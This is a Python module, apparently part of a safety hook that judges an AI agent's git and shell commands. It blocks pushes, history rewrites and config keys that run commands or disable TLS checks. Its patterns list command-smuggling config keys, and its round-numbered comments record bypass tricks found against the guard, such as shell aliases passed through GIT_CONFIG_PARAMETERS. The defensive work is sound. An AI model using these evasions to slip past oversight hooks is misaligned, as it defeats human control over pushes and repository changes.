"""Bash guard rules for git and the network: the URL whitelist decides."""

from __future__ import annotations

import posixpath

from ondas.guards.bash_base import (
    ASKS_VERSION_OR_HELP,
    DEFAULT_BRANCHES,
    Ctx,
    Stdin,
    Word,
    absolute_path,
    block,
    check_argv,
    check_write_target,
    classify,
    claude_config,
    credential_file,
    diff_writes,
    flag_set,
    globbed,
    option_values,
    positionals,
    register,
    rm_targets,
    word_set,
)
from ondas.guards.lazy_re import DOTALL, LazyPattern, re
from ondas.guards.secret_files import named_secrets
from ondas.guards.verdict import ALLOW, DANGEROUS, Verdict

# Not ``typing.TYPE_CHECKING``: the hooks start a process per tool call and skip importing typing.
TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Sequence

_URLISH = LazyPattern(r"(?i)^[a-z][a-z0-9+.\-]*://")
_SCP_LIKE = LazyPattern(r"^(?:[\w.\-]+@)?([\w.\-]+):(?!//)")


_GIT_GLOBAL_VALUE = word_set(
    "-C -c --git-dir --work-tree --namespace --exec-path --super-prefix --config-env"
)


_GIT_COMMAND_KEYS = LazyPattern(
    r"(?i)^(alias\.|core\.(hookspath|sshcommand|pager|fsmonitor|editor|askpass|gitproxy"
    r"|worktree|attributesfile)$|(sequence|gpg|gpg\.\w+)\.(editor|program)$|credential\b|filter\.|diff\..*"
    r"\.(textconv|command)$|merge\..*\.driver$|include|includeif|uploadpack\.|receive\.|"
    r"remote\..*\.(url|pushurl|uploadpack|receivepack|proxy|vcs)$|url\.|http\..*proxy|"
    r"protocol\.|pager\.|web\.browser|browser\.|man\.|instaweb\.|sendemail\.|"
    r"init\.templatedir|safe\.|submodule\..*\.update$|(diff|merge)tool\..*\.path$|"
    r"[\w.\-/:]*\.[\w\-]*(cmd|command|program|editor|pager|tunnel|hook|filter|external|browser"
    r"|driver|textconv|clean|smudge|process|askpass)$)"
)
"""git configuration keys that name a command git runs, hooks, remotes or trust: besides those
named, any key whose last part says it is a command (``trailer.X.cmd``, ``tar.X.command``,
``gpg.ssh.defaultKeyCommand``, ``imap.tunnel``, ``gc.recentObjectsHook``, ``diff.external``,
``interactive.diffFilter``, ``lfs.extension.X.clean``, ``help.browser``), a remote's helper
(``remote.X.vcs`` runs git-remote-X), a submodule's ``update`` (``!CMD``), ``safe.*``, and
``core.attributesFile`` (an attributes file elsewhere than the protected ``.gitattributes``
chooses the filters git runs)."""
_GIT_CHECK_KEYS = LazyPattern(
    r"(?i)^(core\.(bare|repositoryformatversion|logallrefupdates)|clean\.requireforce"
    r"|extensions\..*"
    r"|trace2\..*|http\..*(ssl\w*"
    r"|cookiefile|extraheader)|gc\.(reflogexpire\w*|pruneexpire|worktreepruneexpire)"
    r"|gc\.[^.]+\.reflogexpire\w*|clean\.requireforce)$"
)
"""git configuration keys that turn off its checks or break the repository: TLS settings
(``http.sslVerify``, a CA, a version, a backend), a cookie file or extra header sent with
every request, ``core.bare`` and the repository format (the work tree and the repository
vanish for git), how long the reflog and unreachable objects are kept (``gc.reflogExpire``,
``gc.pruneExpire``: ``now`` makes the next ``gc`` destroy them; ``core.logAllRefUpdates``
stops the reflog), ``trace2.*`` (environment variables and config values copied to a file),
``clean.requireForce`` (off, a plain ``git clean`` deletes the untracked files). Unsetting one
restores git's default, and so do ``http.sslVerify`` and ``clean.requireForce`` set true.
``extensions.*`` declare what the repository's format needs (``extensions.objectFormat``): a
wrong one leaves git unable to read its objects."""
_TRUE = frozenset({"true", "yes", "on", "1"})
_GIT_LOSING_KEYS = LazyPattern(
    r"(?i)^(?:(?P<tags>fetch\.prunetags|remote\..+\.prunetags)|(?P<stat>core\.ignorestat)"
    r"|(?P<untracked>status\.showuntrackedfiles)"
    r"|(?P<modules>submodule\..+\.ignore|diff\.ignoresubmodules))$"
)
"""Settings that lose tags or hide the run's changes when turned on (round 17s):
``fetch.pruneTags`` (every fetch deletes the local tags the remote lacks; a tag keeps no
reflog), ``core.ignoreStat`` (changed files stop showing in ``git status``, as
``update-index --assume-unchanged`` makes them), ``status.showUntrackedFiles no`` (new files
hidden), a submodule's ``ignore`` and ``diff.ignoreSubmodules`` (its changes hidden). Turned
off (``none``, ``false``, ``normal``) or unset they are git's defaults."""
_GIT_COMMAND_ONLY_KEYS = LazyPattern(
    r"(?i)(core\.(sshcommand|fsmonitor|editor|pager|askpass)|sequence\.editor|pager\.[\w\-]+"
    r"|alias\.[\w\-]+|[\w.\-/:]*\.[\w\-]*(cmd|command|program|editor|pager|tunnel|external"
    r"|browser|textconv|askpass))"
)
"""Keys whose value is only a command git runs in place of its own: removing one restores git's
default program. Not hooks (``core.hooksPath`` unset skips the project's hooks), filters
(``filter.crypt.clean`` unset commits what it encrypted), remotes, URL rewrites, proxies or
trust, whose removal moves or unguards something."""


_BRIDGE_PUSHES = {
    "svn": frozenset({"dcommit", "set-tree", "branch", "tag"}),
    "p4": frozenset({"submit"}),
}
"""git's bridges to other systems and their verbs that commit to the other's server (round 16s:
``git svn dcommit``, ``git p4 submit``): pushes; round 21s: ``git cvsexportcommit -c`` commits
into CVS."""


def _letters_has(word: str | None, letter: str) -> bool:
    """A single-dash option word that gives ``letter`` alone or in a cluster (``-cv``)."""
    text = word or ""
    return text[:1] == "-" and text[1:2] != "-" and letter in text[1:]


_REMOTE_FETCH_KEY = LazyPattern(r"(?i)^remote\..+\.fetch$")
_REMOTE_PUSHING_KEY = LazyPattern(r"(?i)^remote\..+\.(?P<key>mirror|push)$")
"""A remote's settings that turn every later push into a forced one: ``remote.X.mirror``
(each push mirrors the local refs, deleting the remote's that are missing here) and a forced
push refspec (``remote.X.push +refs/heads/*:refs/heads/*``; round 18s)."""


def _into_local_refs(refspec: str) -> bool:
    """A fetch refspec that writes local refs by force (``+SRC:refs/heads/main``) or by a
    pattern a pruning fetch deletes from (``refs/heads/*:refs/heads/*``, ``+refs/*:refs/*``):
    not one into remote-tracking refs, git's own configuration."""
    _src, colon, dst = refspec.lstrip("+").partition(":")
    if not colon or not dst or dst.startswith(("refs/remotes/", "remotes/")):
        return False
    return refspec.startswith("+") or "*" in dst


def _git_key(
    value: str | None, seg: str, setting: str | None = None, unset: bool = False
) -> Verdict:
    """The verdict on setting the key ``value`` (``KEY`` or ``KEY=VALUE``; ``setting`` is the
    value when given apart; ``unset`` removes the key). Removing a key that names a command
    (:data:`_GIT_COMMAND_ONLY_KEYS`) gives git back its own program (``git config --unset
    core.sshCommand``, ``--unset alias.co``)."""
    if unset and value is not None and _GIT_COMMAND_ONLY_KEYS.fullmatch(value):
        return ALLOW
    key, eq, attached = (value or "").partition("=")
    setting = attached if eq else setting
    if value is None or _GIT_COMMAND_KEYS.match(key):
        if key.lower().startswith("alias.") or value is None:
            return block("git-alias", seg, "git aliases can hide any command")
        return block(
            "git-config-tamper", seg, f"{key} makes git run a command, skip hooks or move remotes"
        )
    if setting and not unset and _REMOTE_FETCH_KEY.match(key) and _into_local_refs(setting):
        return block(
            "git-history-rewrite",
            seg,
            f"{key} set to {setting!r} makes every fetch force or prune local branches",
        )
    pushing = _REMOTE_PUSHING_KEY.match(key)
    if pushing is not None and setting and not unset:
        mirror = pushing.group("key").lower() == "mirror"
        if (mirror and setting.lower() in _TRUE) or (not mirror and setting.startswith("+")):
            return block(
                "git-push",
                seg,
                f"{key} set to {setting!r} makes every push force or delete the remote's "
                "branches (pushing is for humans to do: the policy)",
            )
    lowered = (setting or "").lower()
    hiding = _GIT_LOSING_KEYS.match(key)
    if hiding is not None and not unset:
        named_off = lowered in {"no", "false", "off", "0"}
        if hiding.group("tags") and lowered in _TRUE:
            return block(
                "git-history-rewrite",
                seg,
                f"{key} makes every fetch delete the local tags the remote lacks (a tag keeps no "
                "reflog)",
            )
        if (hiding.group("stat") and lowered in _TRUE) or (hiding.group("untracked") and named_off):
            return block(
                "git-hide-changes", seg, f"{key} would hide the run's changes from git status"
            )
        if hiding.group("modules") and lowered and lowered != "none":
            return block(
                "git-hide-changes", seg, f"{key} would hide submodules' changes from the run"
            )
    if _GIT_CHECK_KEYS.match(key):
        on = key.lower().endswith(("sslverify", "requireforce"))
        default = on and (setting or "").lower() in _TRUE
        if unset or default:
            return ALLOW
        return block(
            "git-config-tamper", seg, f"{key} turns off git's checks or breaks the repository"
        )
    return ALLOW


def _unseen(value: str | None) -> str | None:
    """``--config-env KEY=VAR``: the key, its value an environment variable's, not seen."""
    return None if value is None else value.split("=", 1)[0] + "=\0"


_GIT_VERB_ALIAS = LazyPattern(r"(?i)alias\.([\w-]+)=(?!\s*!)(.*)", DOTALL)
"""``-c alias.NAME=VALUE`` whose value is git's own verb and options (no ``!``, which runs a
shell): for this one command, ``git NAME`` is ``git VALUE``, judged as that."""
_GIT_SHELL_ALIAS = LazyPattern(r"(?i)alias\.([\w-]+)=\s*!(.*)", DOTALL)
"""``-c alias.NAME=!COMMAND``: ``git NAME ARGS`` runs ``sh -c 'COMMAND "$@"' COMMAND ARGS``, and
so does every git the command starts (``-c`` reaches them through ``GIT_CONFIG_PARAMETERS``)."""
_GIT_ONE_COMMAND = LazyPattern(r"(?i)^(core\.(editor|pager)|sequence\.editor|pager\.[\w\-]+)$")
_NO_OP_COMMANDS = frozenset({"true", ":", "cat"})
"""An editor or pager given with ``-c`` for one command that does nothing (``true``, ``:``) or
passes its text through (``cat``), spelled plainly: ``git -c core.editor=true rebase
--continue`` keeps git from waiting for a person, ordinary work. Any other value (a program,
a spelling games make of ``true``) is still refused, as any value of a command key is."""


def _git_one_command(value: str | None, seg: str) -> Verdict:
    """``git -c KEY=VALUE``: an editor or pager that does nothing passes; every other key and
    value as :func:`_git_key` says."""
    key, eq, line = (value or "").partition("=")
    if eq and _GIT_ONE_COMMAND.match(key) and line.strip() in _NO_OP_COMMANDS:
        return ALLOW
    return _git_key(value, seg)


_GIT_READS = word_set(
    "status log show diff rev-parse rev-list ls-files ls-tree blame describe shortlog cat-file "
    "grep help version whatchanged reflog-show for-each-ref name-rev merge-base count-objects"
)


GIT_COMMANDS = word_set(
    # git's own commands, as its ``command-list.txt`` lists them (git/git at 1a3e64c, 2026-08)
    "add am annotate apply archimport archive backfill bisect blame branch bugreport bundle "
    "cat-file check-attr check-ignore check-mailmap check-ref-format checkout checkout-index "
    "cherry cherry-pick citool clean clone column commit commit-graph commit-tree config "
    "count-objects credential credential-cache credential-store cvsexportcommit cvsimport "
    "cvsserver daemon describe diagnose diff diff-files diff-index diff-pairs diff-tree "
    "difftool fast-export fast-import fetch fetch-pack filter-branch fmt-merge-msg "
    "for-each-ref for-each-repo format-patch format-rev fsck gc get-tar-commit-id gitk grep "
    "gui hash-object help history hook http-backend http-fetch http-push imap-send "
    "index-pack init instaweb interpret-trailers last-modified log ls-files ls-remote ls-tree "
    "mailinfo mailsplit maintenance merge merge-base merge-file merge-index merge-one-file "
    "merge-tree mergetool mktag mktree multi-pack-index mv name-rev notes p4 pack-objects "
    "pack-redundant pack-refs patch-id prune prune-packed pull push quiltimport range-diff "
    "read-tree rebase receive-pack reflog refs remote repack replace replay repo "
    "request-pull rerere reset restore rev-list rev-parse revert rm scalar send-email "
    "send-pack sh-i18n sh-setup shell shortlog show show-branch show-index show-ref "
    "sparse-checkout stash status stripspace submodule svn switch symbolic-ref tag "
    "unpack-file unpack-objects update-index update-ref update-server-info upload-archive "
    "upload-pack url-parse var verify-commit verify-pack verify-tag version whatchanged "
    "worktree write-tree "
    # and those an installed git (2.39, ``git --list-cmds=main``) has besides: built-ins,
    # aliases of them, helpers and contrib's ``subtree``
    "add--interactive bisect--helper checkout--worker credential-cache--daemon "
    "difftool--helper env--helper fsck-objects fsmonitor--daemon init-db merge-octopus "
    "merge-ours merge-recursive merge-recursive-ours merge-recursive-theirs merge-resolve "
    "merge-subtree pickaxe remote-ext remote-fd remote-ftp remote-ftps remote-http "
    "remote-https sh-i18n--envsubst stage submodule--helper subtree upload-archive--writer "
    "web--browse "
    # extensions the rules here judge by their verbs: large files and history rewrites
    "lfs filter-repo"
)
"""The sub-commands git runs itself or the guard judges. Any other word is an alias in the
user's configuration or a program ``git-WORD`` found on ``PATH`` (``git town``, ``git absorb``,
a script the line wrote): git runs it, and the guard has not read it."""


_LOSES_WORK = word_set(
    "checkout-index apply am checkout restore clean fetch pull gc init stash rm mv config "
    "update-index submodule read-tree repack worktree"
)
"""The sub-commands :mod:`ondas.guards.bash_git_work` judges."""


_GIT_PRINTS_AND_EXITS = word_set("--html-path --man-path --info-path --exec-path")
"""git's own options that print a directory and exit as git reads them (``handle_options``),
before any later option or the sub-command: the words after them never run."""


def _git(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None) -> Verdict:
    i = 0
    elsewhere: list[Word] = []
    aliases: dict[str, tuple[int, str]] = {}
    shells: dict[str, str] = {}
    while i < len(args):
        v = args[i].value
        if v is None:
            return block("dynamic-command", seg, "a git option computed at run time")
        if v in {"-C", "--git-dir", "--work-tree"} and i + 1 < len(args):
            elsewhere.append(args[i + 1])
        elif v.startswith(("--git-dir=", "--work-tree=")):
            elsewhere.append(Word(v.split("=", 1)[1], v))
        if v in _GIT_GLOBAL_VALUE:
            alias = (
                _GIT_VERB_ALIAS.fullmatch(args[i + 1].value or "") if i + 1 < len(args) else None
            )
            shell = (
                _GIT_SHELL_ALIAS.fullmatch(args[i + 1].value or "")
                if v == "-c" and alias is None and i + 1 < len(args)
                else None
            )
            if v == "-c" and alias is not None:
                aliases[alias.group(1).lower()] = (i, alias.group(2))  # judged where it is used
            elif shell is not None:
                # round 25 (left25): the alias's command judged as the command it is, with
                # whatever arguments a git it reaches may give it (``"$@"``)
                verdict = ctx.check_source(f'{shell.group(2)} "$@"', ctx, depth + 1)
                if not verdict.allowed:
                    return verdict
                shells[shell.group(1).lower()] = shell.group(2)
            elif v == "-c" and i + 1 < len(args):
                verdict = _git_one_command(args[i + 1].value, seg)
                if not verdict.allowed:
                    return verdict
            if v == "--config-env" and i + 1 < len(args):  # the value of a variable: unseen
                verdict = _git_key(_unseen(args[i + 1].value), seg)
                if not verdict.allowed:
                    return verdict
            i += 2
            continue
        if v.startswith("--config-env="):  # the value of an environment variable: unseen
            verdict = _git_key(_unseen(v.split("=", 1)[1]), seg)
            if not verdict.allowed:
                return verdict
        if v.startswith("--exec-path="):
            return block(
                "git-config-tamper", seg, "--exec-path= makes git run its sub-commands from there"
            )
        if v in _GIT_PRINTS_AND_EXITS:
            return ALLOW  # round 24: ``git --html-path push -uf`` prints a path; push never runs
        if v.startswith("-"):
            i += 1
            continue
        break
    if i >= len(args):
        return ALLOW
    sub = args[i].value
    rest = args[i + 1 :]
    if sub is None:
        return block("dynamic-command", seg, "the git subcommand is computed at run time")
    sub = sub.lower()  # git finds sub-commands case-insensitively on such file systems
    if sub not in GIT_COMMANDS and sub not in aliases and sub not in shells and ctx.assigned:
        from ondas.guards.bash_startup import environment_alias  # only for such verbs

        given = environment_alias(sub, ctx.assigned)
        if given is not None:  # round 26: ``GIT_CONFIG_PARAMETERS="'alias.p'='!echo hi'" git p``
            pair = f"alias.{sub}={given}"
            argv = [Word(name, name), Word("-c", "-c"), Word(pair, pair), *args]
            return check_argv(argv, ctx, depth + 1, seg, s)
    if sub in aliases:  # ``git -c alias.lg='log --oneline' lg``: ``git log --oneline``
        import shlex

        at, expansion = aliases.pop(sub)
        before = [w for k, w in enumerate(args[:i]) if k not in {at, at + 1}]
        try:
            words = [Word(w, w) for w in shlex.split(expansion)]
        except ValueError:
            return block("git-alias", seg, "a git alias git's own reading may split otherwise")
        return check_argv([Word(name, name), *before, *words, *rest], ctx, depth + 1, seg, s)
    if sub in shells:  # ``git -c 'alias.p=!echo hi' p ARGS``: ``echo hi ARGS``
        import shlex

        if any(w.value is None for w in rest):
            return block("dynamic-command", seg, "a git alias's arguments computed at run time")
        given = " ".join(shlex.quote(str(w.value)) for w in rest)
        return ctx.check_source(f"{shells[sub]} {given}".strip(), ctx, depth + 1)
    if sub not in GIT_COMMANDS and not sub.startswith("-"):
        from ondas.guards.bash_git_plugins import CUSTOMARY_ALIASES, git_plugin  # these only

        standing = CUSTOMARY_ALIASES.get(sub)
        if standing is not None:  # ``git co .``: judged as ``git checkout .``
            verb = Word(standing, args[i].text)
            return check_argv([Word(name, name), *args[:i], verb, *rest], ctx, depth + 1, seg, s)
        verdict = git_plugin(name, sub, rest, ctx, depth, seg, s)
        if not verdict.allowed:
            return verdict
    if sub in {"apply", "am"}:
        unsafe = any(w.value == "--unsafe-paths" for w in rest)
        for k, word in enumerate(rest):  # with --unsafe-paths the patch may write outside
            v = word.value or ""
            target = rest[k + 1] if v == "--directory" and k + 1 < len(rest) else None
            target = Word(v[12:], v) if v.startswith("--directory=") else target
            verdict = check_write_target(target, ctx, seg) if target is not None else ALLOW
            if not verdict.allowed and (unsafe or verdict.rule == "write-protected-path"):
                return verdict  # round 17s: ``--directory=.claude`` lands the files there
    if sub == "init" and _git_writes(sub, rest, [a.value for a in rest]) is None:
        for place in elsewhere:  # round 18s: ``git -C .claude init`` makes .claude/.git
            verdict = check_write_target(Word(f"{place.value}/.git", place.text), ctx, seg)
            if place.value is not None and not verdict.allowed:
                return verdict
        for k, word in enumerate(args[:i]):  # ``git --git-dir=.git init --bare``: git's own dir
            v = word.value or ""
            where = args[k + 1] if v == "--git-dir" and k + 1 < i else None
            where = Word(v[10:], v) if v.startswith("--git-dir=") else where
            verdict = check_write_target(where, ctx, seg) if where is not None else ALLOW
            if not verdict.allowed:
                return verdict
    if sub not in _GIT_READS and not _git_lists(sub, rest):
        for where in elsewhere:
            verdict = check_write_target(where, ctx, seg)
            if not verdict.allowed and verdict.rule != "write-protected-path":
                return verdict
    values = [a.value for a in rest]
    if sub in {"checkout", "switch", "commit"}:
        rest = _split_clusters(rest, _COMMIT_VALUE if sub == "commit" else _BRANCH_VALUE)
        values = [a.value for a in rest]
    flags = flag_set(rest)
    flags |= _abbreviated(flags)
    contained = _git_contained(sub, rest, values, flags, ctx, depth, seg)
    if not contained.allowed:
        return contained
    if sub == "push" and ("-n" in flags or "--dry-run" in values):
        # a dry run sends nothing but still connects to the remote: judged where it goes
        verdict = _git_push_target(rest, ctx, seg)
        if not verdict.allowed or "-n" in flags:
            return verdict  # ``--dry-run`` is lifted by the generic rule; ``-n`` is git's own
    if (
        sub == "lfs"
        and values[:2] in (["migrate", "import"], ["migrate", "export"])
        and "--no-rewrite" not in values
    ):
        # ``lfs migrate import|export`` rewrites the commits it converts (with ``--everything``,
        # every branch and tag), as filter-repo does
        return block("git-history-rewrite", seg, "git lfs migrate rewrites history")
    if sub == "lfs" and (
        values[:1] == ["uninstall"]
        or (values[:1] in (["install"], ["update"]) and flags & {"-f", "--force"})
    ):
        # the repository's hooks (pre-push, post-checkout...) are overwritten or removed
        return block(
            "write-protected-path",
            seg,
            f"git lfs {values[0]} overwrites or removes the repository's hooks, which run at "
            "every commit, checkout and push; they are not the agent's to replace",
        )
    bridged = _BRIDGE_PUSHES.get(sub)
    if (
        sub in {"push", "send-pack", "http-push"}
        or (sub in {"subtree", "lfs"} and "push" in values)
        or (bridged is not None and bool(bridged & set(values[:2])))
        or (sub == "cvsexportcommit" and any(_letters_has(v, "c") for v in values))
    ):
        # ``send-pack`` and ``http-push`` are the plumbing under push (over git's protocol and
        # WebDAV); ``lfs push`` uploads the large objects
        return block("git-push", seg, "pushing is for humans to do")
    if sub in {"send-email", "imap-send"} and "--dry-run" not in values:
        # round 13: patches (or any file named) mailed to others, or put in a mail folder
        return block("publish", seg, f"git {sub} sends mail: publishing is for humans to do")
    if (
        sub == "remote"
        and values[:1] == ["add"]
        and any(v in {"--mirror", "--mirror=fetch"} for v in values)
    ):
        # round 16s: a fetch mirror's refspec is ``+refs/*:refs/*``: its first fetch replaces
        # every local branch and tag by the remote's (and ``--prune`` deletes the rest)
        return block(
            "git-history-rewrite",
            seg,
            "a remote added as a fetch mirror overwrites every local branch at each fetch",
        )
    if sub == "reset" and any(_long(values, o) is not None for o in ("--hard", "--merge")):
        discard = block("git-reset-hard", seg, "git reset --hard discards work")
    elif sub == "clean" and flags & {"-f", "--force"} and not flags & {"-n", "--dry-run"}:
        discard = block("git-clean-force", seg, "git clean -f deletes untracked files")
    else:
        discard = _git_discard(sub, rest, values, flags, seg, ctx)
    if not discard.allowed:
        from ondas.guards.bash_temp_repos import DISCARDING_VERBS, temp_clone  # refusals only

        if sub not in DISCARDING_VERBS or not temp_clone(args[:i], ctx):
            return discard
    if sub == "sparse-checkout":
        from ondas.guards.bash_sparse_checkout import other_repository, sparse_leaves_control

        if not other_repository(elsewhere, ctx):  # round 20: control files left out
            discard = sparse_leaves_control(rest, flags, ctx, seg, s)
            if not discard.allowed:
                return discard
    if sub in _LOSES_WORK:
        from ondas.guards.bash_git_work import git_loses_work  # loaded by these verbs only

        discard = git_loses_work(sub, rest, values, flags, ctx, seg, s)
        if not discard.allowed:
            return discard
    forced = flags & {"-f", "--force", "-M", "-C"}
    if sub == "branch" and forced and not flags & {"-d", "-D", "--delete"}:
        names = [a.value for a in positionals(rest)]
        forced_branch: str | None
        if flags & {"-m", "--move", "-c", "--copy", "-M", "-C"}:
            # ``-M OLD main`` renames over main; ``-M main`` renames the branch one is on (a new
            # repository's instructions say so) and is left to pass
            forced_branch = names[1] if len(names) > 1 else ""
            if len(names) == 1 and ctx.orphaned:
                forced_branch = names[0]  # round 24: an orphan renamed over main
        else:
            forced_branch = names[0] if names else ""
        if forced_branch is None or forced_branch in DEFAULT_BRANCHES:
            return block("git-branch-force-default", seg, "moving the default branch by force")
    if sub in {"checkout", "switch"} and "--orphan" in flags:
        ctx.orphaned = True
    if sub in {"checkout", "switch"} and flags & {"-B", "-C", "--force-create"}:
        # ``checkout -B main START`` resets an existing main to START, as ``branch -f`` does
        k = next(i for i, a in enumerate(rest) if a.value in {"-B", "-C", "--force-create"})
        branch = rest[k + 1].value if k + 1 < len(rest) else ""
        start = positionals(rest[k + 2 :], _CHECKOUT_VALUE)
        if start and (branch is None or branch in DEFAULT_BRANCHES):
            return block("git-branch-force-default", seg, "moving the default branch by force")
    if sub == "update-index" and any(
        v in {"--skip-worktree", "--assume-unchanged"} for v in values
    ):
        # changes to such a file no longer show in ``git status``: the wave's commit, review and
        # report would not see what the agent did to it
        return block(
            "git-hide-changes", seg, "git update-index would hide a file's changes from the run"
        )
    if sub in _GIT_STAGERS and "--force-remove" not in flags:
        staged = _stages_secret(sub, rest, flags, seg)
        if not staged.allowed:
            return staged
    if sub == "daemon" and ctx.unattended and not _loopback_daemon(values):
        return block(
            "network-listen",
            seg,
            "git daemon serves repositories to every host on the network (with "
            "--enable=receive-pack, lets them push); policy: unattended runs without the OS "
            "sandbox refuse servers that listen beyond the loopback address",
        )
    written = _git_writes(sub, rest, values)
    if written is not None:
        verdict = check_write_target(written, ctx, seg)
        new_directory = (
            sub in {"worktree", "clone"}
            and verdict.rule == "write-outside-project"
            and not (ctx.unattended and home_dot_directory(written.value, ctx))
        )
        if not verdict.allowed and not new_directory:
            # ``worktree add`` and ``clone`` make a directory that must not exist or be empty:
            # beside the project (``../wt-feature``) they overwrite nothing; control places
            # (``~/.claude/...``) and protected paths stay refused
            return verdict
    if sub == "mv":  # ``git mv SRC DEST`` writes DEST
        moved = positionals(rest, word_set("-k"))
        if len(moved) > 1:
            verdict = check_write_target(moved[-1], ctx, seg)
            if not verdict.allowed:
                return verdict
    if sub == "apply" and s is not None and s.kind == "text" and s.text:
        verdict = diff_writes(s.text, ctx, seg)  # ``git apply <<EOF``: the files it names
        if not verdict.allowed:
            return verdict
    if sub == "read-tree" and "-u" in flags and "--reset" in flags:
        return block(
            "git-checkout-discard", seg, "git read-tree -u over the working tree discards changes"
        )
    if sub == "branch":
        deleting = "-D" in flags or ({"-d", "--delete"} & flags and {"-f", "--force"} & flags)
        if deleting:
            names = [a.value for a in positionals(rest)]
            if any(n is None or n in DEFAULT_BRANCHES for n in names):
                return block("git-branch-delete-default", seg, "deleting the default branch")
            return block("git-branch-force-delete", seg, "deleting a branch with unmerged commits")
        if {"-d", "--delete"} & flags and not {"-r", "--remotes"} & flags:
            # round 25 (tune25b): the default branch deleted unforced loses no commit git
            # still reaches, but the project's mainline goes and its reflog with it
            names = [a.value for a in positionals(rest)]
            if any(n in DEFAULT_BRANCHES for n in names):
                return block("git-branch-delete-default", seg, "deleting the default branch")
    if sub == "config":
        return _git_config(rest, ctx, seg)
    seeded = _git_seeded(sub, rest, values, flags, seg)
    if not seeded.allowed:
        return seeded
    if sub in {"clone", "fetch", "pull", "ls-remote", "archive"} or (
        sub in {"remote", "submodule"} and values[:1] in (["add"], ["set-url"])
    ):
        words = positionals(
            rest,
            word_set(
                "-b --branch -o --origin --depth --reference -c --config -j --jobs "
                "--upload-pack -u --template --separate-git-dir --filter --name"
            ),
        )
        if sub in {"fetch", "pull", "ls-remote"} and "--all" not in values:
            # A remote name (or none: origin) is looked up in the repository's config.
            first = words[0].value if words else "origin"
            if first is not None and _remote_url(first) is None:
                from ondas.guards.git_remote import remote_url

                named = remote_url(ctx.cwd or ctx.project, first)
                words = [Word(named, named), *words[1:]] if named else words
        for word in words:
            if word.value is None:
                return block("network-unknown-target", seg, "a git remote computed at run time")
            url = _remote_url(word.value)
            if url is not None:
                verdict = network_url(url, ctx, seg)
                if not verdict.allowed:
                    return verdict
        if sub == "clone" and words:
            _cloned_from_disk(words, ctx)
    if ctx.unattended and ("HOME" in ctx.assigned or "XDG_CONFIG_HOME" in ctx.assigned):
        verdict = _redirected_global_config(sub, ctx, seg)
        if not verdict.allowed:
            return verdict
    if ctx.unattended and (elsewhere or ctx.cwd != ctx.project) and _runs_outside(elsewhere, ctx):
        return _outside_repository(sub, args[:i], ctx, seg)
    return ALLOW


def _redirected_global_config(sub: str, ctx: Ctx, seg: str) -> Verdict:
    """``HOME=/tmp/h git status``: the global configuration git reads there names programs
    the guard did not read (:func:`~ondas.guards.bash_temp_repos.redirected_global_config`),
    refused unattended as a repository's outside the project is (round 19, ``left19``)."""
    from ondas.guards.bash_temp_repos import redirected_global_config

    ran = redirected_global_config(ctx)
    if ran is None:
        return ALLOW
    return block(
        "unknown-program",
        seg,
        f"git {sub} reads a global configuration this line points it at ({ran}): programs "
        "nobody read; unattended runs without the OS sandbox refuse unknown programs",
    )


def _cloned_from_disk(words: list[Word], ctx: Ctx) -> None:
    """``git clone /tmp/p vendor/p`` (or ``file:///tmp/p``): a repository on this machine,
    outside the project, checked out here is a tree brought from there, as ``cp -r /tmp/p
    vendor/p`` is (round 19): a make, shell or test run of it later in the line runs text the
    guard cannot read (:func:`~ondas.guards.bash_base.note_brought_tree`)."""
    from ondas.guards.bash_base import note_brought_tree

    source = words[0].value or ""
    if source.startswith("file://"):
        source = source[len("file://") :]
    if not source.startswith(("/", "~")):
        return  # a URL, or a path relative to the project (its neighbour, judged as before)
    if len(words) > 1:
        dest = words[1].value
    else:
        leaf = posixpath.basename(source.rstrip("/"))
        dest = leaf[:-4] if leaf.endswith(".git") else leaf
    if dest:
        note_brought_tree(source, dest, ctx)


def _runs_outside(elsewhere: list[Word], ctx: Ctx) -> bool:
    """git runs, by the working directory (``cd``) or a directory it is given (``-C``,
    ``--git-dir``), outside the project (lexically; only the lines that say so read the disk)."""
    from ondas.guards.paths import lexical_inside

    if ctx.cwd is None or ctx.project is None:
        return False
    if not lexical_inside(ctx.cwd, ctx.project):
        return True
    for word in elsewhere:
        place = None if word.value is None else absolute_path(word.value, ctx)
        if place is None or not lexical_inside(place, ctx.project):
            return True
    return False


def _outside_repository(sub: str, options: list[Word], ctx: Ctx, seg: str) -> Verdict:
    """``git -C /tmp/x checkout main``, ``cd /tmp/x && git commit``: git run in a repository
    outside the project runs its hooks and the programs its configuration names, unattended
    and without the OS sandbox; refused when the guard cannot read them as git's samples and
    plain settings (round 18, holes18). Attended and sandboxed, code outside the project is the
    person's and the sandbox's (round 12)."""
    from ondas.guards.bash_temp_repos import (
        HOOKLESS_VERBS,
        NO_REPOSITORY_VERBS,
        outside_repository_code,
    )

    hooks = sub not in HOOKLESS_VERBS
    ran = None if sub in NO_REPOSITORY_VERBS else outside_repository_code(options, ctx, hooks=hooks)
    if ran is None:
        return ALLOW
    return block(
        "unknown-program",
        seg,
        f"git {sub} runs the repository's code there ({ran}): a program outside the project "
        "nobody read; unattended runs without the OS sandbox refuse unknown programs",
    )


_PUSH_VALUE = word_set("--repo -o --push-option --receive-pack --exec")


def _git_push_target(rest: list[Word], ctx: Ctx, seg: str) -> Verdict:
    """Where a push connects: its repository operand (a URL, or a remote named in the
    repository's config; none is ``origin``), judged against the whitelist."""
    words = positionals(rest, _PUSH_VALUE)
    repo = next((w.value for w in rest if (w.value or "").startswith("--repo=")), None)
    first = repo.split("=", 1)[1] if repo is not None else (words[0].value if words else "origin")
    if first is None:
        return block("network-unknown-target", seg, "a git remote computed at run time")
    url = _remote_url(first)
    if url is None:
        from ondas.guards.git_remote import remote_url

        named = remote_url(ctx.cwd or ctx.project, first)
        url = _remote_url(named) if named else None
    return network_url(url, ctx, seg) if url is not None else ALLOW


_GIT_OUTPUT = {
    "archive": word_set("-o --output"),
    "format-patch": word_set("-o --output-directory"),
    "diff": word_set("--output"),
    "log": word_set("--output"),
    "show": word_set("--output"),
    "init": word_set("--separate-git-dir"),
    "clone": word_set("--separate-git-dir"),
    # round 20s: the directory a patch's paths are put under (``..`` is outside the work tree
    # with ``--unsafe-paths``), the prefix a subtree is added or merged at
    "apply": word_set("--directory"),
    "am": word_set("--directory"),
    "subtree": word_set("-P --prefix"),
    # round 21s: the report and the diagnostics archive are written in the directory given
    "bugreport": word_set("-o --output-directory"),
    "diagnose": word_set("-o --output-directory"),
}
"""Options of git sub-commands whose value is a file or directory git writes."""
_CLONE_VALUE = word_set(
